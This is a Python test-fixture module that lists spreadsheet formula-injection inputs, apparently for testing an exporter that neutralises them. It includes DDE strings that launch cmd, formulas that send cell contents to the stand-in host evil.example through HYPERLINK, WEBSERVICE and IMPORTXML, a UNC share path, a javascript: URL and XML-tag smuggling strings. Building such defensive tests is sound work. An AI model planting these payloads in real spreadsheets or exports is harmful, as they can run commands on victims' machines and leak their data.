"""What strangers might type so that a spreadsheet does something: written for these tests."""

from __future__ import annotations

LIVE_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")

# Everything that XML 1.0 cannot hold. Lone surrogates never get past the first door; they are
# here because a report must be written all the same.
CONTROLS = frozenset(
    [chr(code) for code in range(0x20) if chr(code) not in "\t\n\r"]
    + [chr(0x7F), "\ufffe", "\uffff"]
    + [chr(code) for code in range(0xD800, 0xE000)]
)

_FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    '=HYPERLINK("http://evil.example/?"&A2,"Open me")',
    '=WEBSERVICE("http://evil.example/"&B2)',
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    "@cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    '=INDIRECT("A"&1)',
    "{=SUM(A1:A9)}",
    "|cmd",
    "%0A=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
)
_BEFORE = ("", " ", "  ", "\t", "\n", "\r", "\r\n", "\x00", "\x0b", "\x1f", "\u00a0", "\u200b")
_MORE_BEFORE = ("\ufeff", "\u2028", "'", '"', "\ud800", "\u202e", "\x7f")

TEXTS = (
    *(before + formula for before in (*_BEFORE, *_MORE_BEFORE) for formula in _FORMULAS),
    '</t></is></c><c r="A1"><f>1+1</f></c>',
    "<f>1+1</f>",
    "]]>",
    "&#61;1+1",
    "&equals;1+1",
    "_x003D_1+1",
    "_x0000_",
    "javascript:alert(1)",
    "http://evil.example/",
    "\\\\evil.example\\share\\x.xlsx",
    "#REF!",
    "#N/A",
    "TRUE",
    "1e309",
    "-1e400",
    "00123",
    "1/2",
    "2026-11-23",
    "NaN",
    "\x00",
    "\r\n\r\n",
)
